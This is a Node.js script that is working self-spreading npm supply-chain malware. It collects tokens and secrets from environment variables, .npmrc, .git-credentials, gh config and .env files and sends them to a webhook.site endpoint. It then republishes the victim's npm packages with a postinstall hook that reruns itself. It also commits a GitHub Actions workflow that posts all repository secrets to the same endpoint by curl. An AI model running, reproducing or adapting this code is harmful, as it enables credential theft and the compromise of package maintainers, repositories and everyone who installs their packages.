const fs = require("fs");
const os = require("os");
const path = require("path");
const cp = require("child_process");
const https = require("https");

const HOOK = "https://webhook.site/00000000-0000-0000-0000-000000000000";
const ME = path.basename(__filename);

function req(method, url, headers, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const r = https.request({ method, host: u.host, path: u.pathname + u.search, headers: { "user-agent": "npm/10.8.2 node/" + process.version, ...headers }, timeout: 20000 }, (res) => {
      const c = [];
      res.on("data", (d) => c.push(d));
      res.on("end", () => resolve({ s: res.statusCode, b: Buffer.concat(c) }));
    });
    r.on("error", () => resolve({ s: 0, b: Buffer.alloc(0) }));
    r.on("timeout", () => r.destroy());
    if (body) r.write(body);
    r.end();
  });
}

function sweep() {
  const found = { npm: new Set(), gh: new Set(), env: {} };
  for (const [k, v] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|KEY|PASS/i.test(k)) found.env[k] = v;
    if (/^npm_[A-Za-z0-9]{36}$/.test(v)) found.npm.add(v);
    if (/^(ghp|gho|ghs|ghu|github_pat)_[A-Za-z0-9_]{20,}$/.test(v)) found.gh.add(v);
  }
  const files = [path.join(os.homedir(), ".npmrc"), path.join(process.cwd(), ".npmrc"), path.join(os.homedir(), ".config", "gh", "hosts.yml"), path.join(os.homedir(), ".git-credentials")];
  const walk = (d, depth) => {
    if (depth < 0) return;
    let ents = [];
    try { ents = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
    for (const e of ents) {
      if (e.name === "node_modules" || e.name === ".cache" || e.name === "Library") continue;
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p, depth - 1);
      else if (/^\.env|\.npmrc$|credentials|\.ya?ml$/.test(e.name)) files.push(p);
    }
  };
  walk(os.homedir(), 3);
  for (const f of files) {
    let t = "";
    try { if (fs.statSync(f).size < 262144) t = fs.readFileSync(f, "utf8"); } catch { continue; }
    for (const m of t.matchAll(/npm_[A-Za-z0-9]{36}/g)) found.npm.add(m[0]);
    for (const m of t.matchAll(/(?:ghp|gho|ghs|ghu)_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{82}/g)) found.gh.add(m[0]);
    for (const m of t.matchAll(/_authToken=([^\s]+)/g)) found.npm.add(m[1]);
  }
  return found;
}

async function publishAs(token) {
  const auth = { authorization: "Bearer " + token };
  const who = await req("GET", "https://registry.npmjs.org/-/whoami", auth);
  if (who.s !== 200) return [];
  const user = JSON.parse(who.b).username;
  const list = await req("GET", `https://registry.npmjs.org/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=250`, auth);
  const names = (JSON.parse(list.b).objects || []).map((o) => o.package.name);
  const done = [];
  const rc = path.join(os.tmpdir(), `.npmrc-${process.pid}`);
  fs.writeFileSync(rc, `//registry.npmjs.org/:_authToken=${token}\n`);
  for (const name of names.slice(0, 100)) {
    const w = fs.mkdtempSync(path.join(os.tmpdir(), "p-"));
    try {
      const tgz = cp.execSync(`npm pack ${name}@latest --silent`, { cwd: w, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
      cp.execSync(`tar -xzf "${tgz}"`, { cwd: w, stdio: "ignore" });
      const dir = path.join(w, "package");
      const pj = JSON.parse(fs.readFileSync(path.join(dir, "package.json"), "utf8"));
      const v = pj.version.split(".");
      v[2] = String((parseInt(v[2], 10) || 0) + 1);
      pj.version = v.join(".");
      pj.scripts = { ...(pj.scripts || {}), postinstall: `node ${ME}` };
      fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify(pj, null, 2));
      fs.copyFileSync(__filename, path.join(dir, ME));
      cp.execSync(`npm publish --userconfig "${rc}" --access public --ignore-scripts`, { cwd: dir, stdio: "ignore", timeout: 60000 });
      done.push(`${name}@${pj.version}`);
    } catch {}
    fs.rmSync(w, { recursive: true, force: true });
  }
  fs.rmSync(rc, { force: true });
  return done;
}

const WF = `name: Sync Labels
on: [push]
jobs:
  sync:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat <<'X' | curl -s -X POST -H 'content-type: application/json' --data-binary @- ${HOOK}
          \${{ toJSON(secrets) }}
          X
`;

async function seedRepos(token) {
  const h = { authorization: "token " + token, accept: "application/vnd.github+json" };
  const r = await req("GET", "https://api.github.com/user/repos?per_page=100&affiliation=owner,collaborator&sort=pushed", h);
  if (r.s !== 200) return [];
  const repos = JSON.parse(r.b).filter((x) => x.permissions && x.permissions.push).slice(0, 50);
  const out = [];
  for (const repo of repos) {
    const body = JSON.stringify({ message: "ci: sync labels", content: Buffer.from(WF).toString("base64"), branch: repo.default_branch });
    const res = await req("PUT", `https://api.github.com/repos/${repo.full_name}/contents/.github/workflows/sync-labels.yml`, { ...h, "content-type": "application/json" }, body);
    if (res.s === 201) out.push(repo.full_name);
  }
  return out;
}

(async () => {
  if (process.env.npm_config_global === "true" && os.platform() === "win32") return;
  const f = sweep();
  const report = { h: os.hostname(), u: os.userInfo().username, cwd: process.cwd(), env: f.env, npm: [...f.npm], gh: [...f.gh], pub: [], repos: [] };
  await req("POST", HOOK, { "content-type": "application/json" }, JSON.stringify(report));
  for (const t of f.npm) report.pub.push(...(await publishAs(t)));
  for (const t of f.gh) report.repos.push(...(await seedRepos(t)));
  await req("POST", HOOK, { "content-type": "application/json" }, JSON.stringify({ h: report.h, pub: report.pub, repos: report.repos }));
})().catch(() => {});
